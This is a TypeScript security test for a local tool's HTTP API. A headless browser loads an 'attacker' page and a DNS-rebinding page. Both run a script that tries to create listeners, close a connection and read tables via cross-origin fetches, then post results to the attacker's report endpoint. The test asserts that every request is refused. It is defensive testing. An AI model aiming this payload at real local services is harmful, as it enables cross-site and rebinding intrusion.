// A real browser attack on the API (issue 16): headless Chromium loads a page from a second
// origin (a test HTTP server on 127.0.0.2) that tries to create a listener, close a connection
// and read the engine's tables, with CORS fetches and no-cors ones; then a DNS-rebinding page,
// same-origin with the API by name (rebind.attacker.test mapped to 127.0.0.1), tries the same.
// Chromium's own Local Network Access checks are turned off: keyport must defend itself, as it
// must against browsers that have no such checks. Asserted: what each page saw (it reports back
// to the test server), what keyport answered on the wire, and that nothing changed in the engine
// (same listeners, the connection still open and echoing).
import { existsSync, mkdtempSync, rmSync } from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { type BrowserContext, chromium, type Page } from 'playwright-core';
import t, { type Test } from 'tap';
import { portOf, request } from '../helpers/http.js';
import { startKeyport } from '../helpers/keyport.js';
import { connect, readBytes, until } from '../helpers/tcp.js';

const CHROMIUM = '/usr/bin/chromium';
if (!existsSync(CHROMIUM)) {
  t.fail(`${CHROMIUM} is missing: apt-get install -y chromium (.ci/run does)`);
  process.exit(1);
}

const k = await startKeyport(['--listener', '127.0.0.1:0=echo']);
t.teardown(() => k.stop());
const apiPort = portOf(k.api);
const listenersNow = async () =>
  (await request(k.api, 'GET', '/listeners')).body.items.map((l: { id: string }) => l.id).sort();
const connectionsNow = async () =>
  (await request(k.api, 'GET', '/connections')).body.items.map((c: { id: string }) => c.id).sort();

// A live connection for the page to try to close.
const victim = await connect(
  portOf((await request(k.api, 'GET', '/listeners')).body.items[0].address),
);
victim.on('error', () => {});
t.teardown(() => victim.destroy());
victim.write('v');
await readBytes(victim, 1);
const conns = await until(connectionsNow, (ids) => ids.length === 1);
const victimId = conns[0] as string;
const before = { listeners: await listenersNow(), connections: conns };

/** What each attempt of a page saw: "status N", "opaque" or "error: TypeError". */
type Seen = Record<string, string>;

// The script both attack pages run. API is '' on the rebinding page (same origin by name).
const attackScript = (api: string, report: string) => `
  const API = ${JSON.stringify(api)};
  const out = {};
  async function attempt(name, fn) {
    try {
      const r = await fn();
      out[name] = r.type === 'opaque' ? 'opaque' : 'status ' + r.status;
    } catch (e) {
      out[name] = 'error: ' + e.name;
    }
  }
  (async () => {
    const body = JSON.stringify({ address: '127.0.0.1:0', mode: 'echo' });
    await attempt('cors POST /listeners', () => fetch(API + '/listeners', {
      method: 'POST', headers: { 'content-type': 'application/json' }, body }));
    await attempt('no-cors POST /listeners', () => fetch(API + '/listeners', {
      method: 'POST', mode: 'no-cors', headers: { 'content-type': 'text/plain' }, body }));
    await attempt('cors DELETE /connections', () =>
      fetch(API + '/connections/${victimId}?mode=abort', { method: 'DELETE' }));
    await attempt('no-cors GET /connections', () => fetch(API + '/connections', { mode: 'no-cors' }));
    await attempt('cors GET /connections', () => fetch(API + '/connections'));
    window.__seen = out;
    await fetch(${JSON.stringify(report)}, { method: 'POST', mode: 'no-cors',
      headers: { 'content-type': 'text/plain' }, body: JSON.stringify(out) }).catch(() => {});
  })();
`;

// The attacker's site, on another loopback address: serves the page, collects its report.
const reports: Seen[] = [];
const attacker = http.createServer((req, res) => {
  if (req.method === 'POST' && req.url === '/report') {
    let b = '';
    req.on('data', (d) => (b += d));
    req.on('end', () => {
      reports.push(JSON.parse(b));
      res.end();
    });
    return;
  }
  res.setHeader('content-type', 'text/html');
  res.end(
    `<!doctype html><title>attacker</title><script>${attackScript(`http://127.0.0.1:${apiPort}`, '/report')}</script>`,
  );
});
await new Promise<void>((r) => attacker.listen(0, '127.0.0.2', r));
t.teardown(() => attacker.close());
const attackerUrl = `http://127.0.0.2:${(attacker.address() as AddressInfo).port}`;

const userData = mkdtempSync(join(tmpdir(), 'keyport-attack-'));
const browser: BrowserContext = await chromium.launchPersistentContext(userData, {
  executablePath: CHROMIUM,
  headless: true,
  args: [
    '--no-sandbox',
    '--disable-gpu',
    '--disable-quic',
    '--no-first-run',
    '--disable-background-networking',
    // The rebinding: the attacker's name now resolves to the API's address.
    '--host-resolver-rules=MAP rebind.attacker.test 127.0.0.1',
    // Without the browser's own private-network checks: keyport is what must refuse.
    '--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests,PrivateNetworkAccessSendPreflights',
  ],
});
t.teardown(async () => {
  await browser.close();
  rmSync(userData, { recursive: true, force: true });
});

/** Opens a page and records what keyport answered on the wire to each request that reached it. */
async function attack(url: string, setup?: (p: Page) => Promise<void>) {
  const page = await browser.newPage();
  const wire: string[] = [];
  page.on('response', (r) => {
    const u = new URL(r.url());
    if (u.port === String(apiPort) && r.request().resourceType() !== 'document')
      wire.push(`${r.request().method()} ${u.pathname} ${r.status()}`);
  });
  if (setup) await setup(page);
  await page.goto(url);
  await page.waitForFunction(() => (window as { __seen?: unknown }).__seen !== undefined, null, {
    timeout: 30_000,
  });
  const seen = (await page.evaluate(() => (window as unknown as { __seen: Seen }).__seen)) as Seen;
  await page.close();
  return { seen, wire };
}

async function unchanged(t: Test): Promise<void> {
  t.same(await listenersNow(), before.listeners, 'no listener was created');
  t.same(await connectionsNow(), before.connections, 'no connection was closed');
  victim.write('still');
  t.equal((await readBytes(victim, 5)).toString(), 'still', 'the connection still echoes');
}

t.test('a page of another origin can neither command nor read the API', async (t) => {
  const { seen, wire } = await attack(`${attackerUrl}/`);
  t.same(
    seen,
    {
      'cors POST /listeners': 'error: TypeError',
      'no-cors POST /listeners': 'opaque',
      'cors DELETE /connections': 'error: TypeError',
      'no-cors GET /connections': 'opaque',
      'cors GET /connections': 'error: TypeError',
    },
    'the page learnt nothing: CORS fetches failed, no-cors ones are opaque',
  );
  await until(
    async () => reports.length,
    (n) => n > 0,
  );
  t.same(reports[0], seen, 'the page reported the same to its server');
  // What reached keyport (CORS preflights are not shown by the browser): each answered 403.
  t.ok(wire.length >= 2, `keyport answered ${wire.join(', ')}`);
  for (const w of wire) t.match(w, / 403$/, `refused on the wire: ${w}`);
  await unchanged(t);
});

t.test('a DNS-rebinding page (same origin by name) is answered 421', async (t) => {
  const url = `http://rebind.attacker.test:${apiPort}/`;
  const { seen, wire } = await attack(url, (page) =>
    // The page as the attacker's DNS served it, before the name was rebound to 127.0.0.1.
    page.route(url, (route) =>
      route.fulfill({
        contentType: 'text/html',
        body: `<!doctype html><title>rebind</title><script>${attackScript('', `${attackerUrl}/report`)}</script>`,
      }),
    ),
  );
  t.same(
    seen,
    {
      'cors POST /listeners': 'status 421',
      'no-cors POST /listeners': 'status 421',
      'cors DELETE /connections': 'status 421',
      'no-cors GET /connections': 'status 421',
      'cors GET /connections': 'status 421',
    },
    'every request (same origin by name, so readable) was answered 421 Misdirected Request',
  );
  t.equal(wire.length, 5, `all 5 reached keyport: ${wire.join(', ')}`);
  for (const w of wire) t.match(w, / 421$/, `refused on the wire: ${w}`);
  await unchanged(t);
});
